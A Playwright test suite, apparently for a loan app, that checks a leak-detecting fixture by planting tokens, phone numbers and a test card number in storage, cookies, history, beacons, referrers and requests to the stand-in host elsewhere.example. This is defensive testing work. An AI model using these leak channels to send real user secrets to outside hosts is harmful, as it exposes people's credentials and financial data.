/** The watch over every journey sees a token or a number that leaves; here it is shown each way of leaving. */
import type { Page } from '@playwright/test';
import { expect, test } from '../src/fixtures.ts';

type Leak = { way: string; plant(page: Page, secret: string): Promise<unknown>; complaint: RegExp };

const leaks: readonly Leak[] = [
  {
    way: 'a line of the console',
    plant: (page, secret) => page.evaluate((text) => console.info(`it is ${text}`), secret),
    complaint: /left: console info/,
  },
  {
    way: 'local storage',
    plant: (page, secret) => page.evaluate((text) => localStorage.setItem('kept', text), secret),
    complaint: /left: local storage kept/,
  },
  {
    way: 'a second place of session storage',
    plant: (page, secret) =>
      page.evaluate((text) => sessionStorage.setItem('kept', JSON.stringify({ a: { b: text } })), secret),
    complaint: /left: session storage kept/,
  },
  {
    way: 'a cookie',
    plant: (page, secret) =>
      page.evaluate((text) => {
        document.cookie = `kept=${text}`;
      }, secret),
    complaint: /left: cookie/,
  },
  {
    way: 'the name of the window',
    plant: (page, secret) =>
      page.evaluate((text) => {
        window.name = text;
      }, secret),
    complaint: /left: window name/,
  },
  {
    way: 'the title of the page',
    plant: (page, secret) =>
      page.evaluate((text) => {
        document.title = `Order ${text}`;
      }, secret),
    complaint: /left: title/,
  },
  {
    way: 'the state of the history',
    plant: (page, secret) => page.evaluate((text) => history.replaceState({ key: [text] }, ''), secret),
    complaint: /left: history state/,
  },
  {
    way: 'the name of a database',
    plant: (page, secret) => page.evaluate((text) => void indexedDB.open(text), secret),
    complaint: /left: database/,
  },
  {
    way: 'a request to another origin, which the policy refuses',
    plant: (page, secret) =>
      page.evaluate((text) => void fetch(`https://elsewhere.example/?t=${text}`).catch(() => undefined), secret),
    complaint: /left: console error/,
  },
  {
    way: 'the address of a page of another origin',
    plant: (page, secret) => page.evaluate((text) => void window.open(`https://elsewhere.example/?t=${text}`), secret),
    complaint: /left: another origin: https:\/\/elsewhere\.example/,
  },
  {
    way: 'a request to our own origin that is none of the lender’s',
    plant: (page, secret) =>
      page.evaluate((text) => void fetch(`/shell/nowhere?${encodeURIComponent(text)}`).catch(() => undefined), secret),
    complaint: /left: request \/shell\/nowhere/,
  },
  {
    way: 'a report',
    plant: (page, secret) => page.evaluate((text) => navigator.sendBeacon('/reports', `{"m":"${text}"}`), secret),
    complaint: /left: body of \/reports/,
  },
  {
    way: 'a referrer',
    plant: (page, secret) =>
      page.evaluate(
        (text) =>
          void fetch('/shell/anywhere', {
            referrer: `${location.origin}/x/${text}`,
            referrerPolicy: 'unsafe-url',
          }).catch(() => undefined),
        secret,
      ),
    complaint: /left: referrer at \/shell\/anywhere/,
  },
];

/** Cards are known to the watch from the beginning. */
const CARD = '4005519200000004';

for (const { way, plant, complaint } of leaks) {
  test(`the watch notices a token, a telephone and a card number in ${way}`, async ({ borrower, page, watch }) => {
    const { phone } = await borrower.opens('forget');
    await borrower.types(phone, 'Phone number');
    await borrower.taps('Send Verification Code');
    await borrower.sees('Verification code sent!');
    const { token } = await borrower.opens('due-rollover');
    await borrower.seesButton('Rollover Repayment');
    expect(watch.complaints()).toEqual([]);
    const complaintsOf = (what: string) => () =>
      watch.complaints().filter((one) => complaint.test(one) && one.startsWith(what));

    for (const [what, secret] of [
      ['a token', token],
      ['a number', phone],
    ] as const) {
      await plant(page, secret);
      await expect.poll(() => complaintsOf(what)().length, { message: `${what} in ${way}` }).toBeGreaterThan(0);
    }
    watch.forgetsWhatItSaw();
    await plant(page, CARD);
    await expect.poll(() => complaintsOf('a number')().length, { message: `a card in ${way}` }).toBeGreaterThan(0);
    watch.allows(/./);
  });
}

test('the watch notices a number that a navigation writes into the address', async ({ borrower, page, watch }) => {
  await borrower.opens('due-rollover');
  await borrower.seesButton('Rollover Repayment');
  await page.evaluate((card) => history.replaceState(null, '', `/order?card=${card}`), CARD);
  await expect.poll(() => watch.complaints()).toContain('a number left: page address in history');
  watch.allows(/./);
});

test('the watch is over every window of the phone', async ({ borrower, context, page, watch }) => {
  await borrower.opensAddress('/nowhere');
  await borrower.seesHeading('There is no page at this address');
  const second = await context.newPage();
  await second.goto('/nowhere');
  await second.evaluate((card) => localStorage.setItem('kept', card), CARD);
  await second.evaluate(() => setTimeout(() => Promise.reject(new Error('in the second window'))));
  await expect.poll(() => watch.complaints()).toContain('a number left: local storage kept');
  await expect.poll(() => watch.complaints().join()).toContain('uncaught: in the second window');
  expect(page.url()).toContain('/nowhere');
  watch.allows(/./);
});
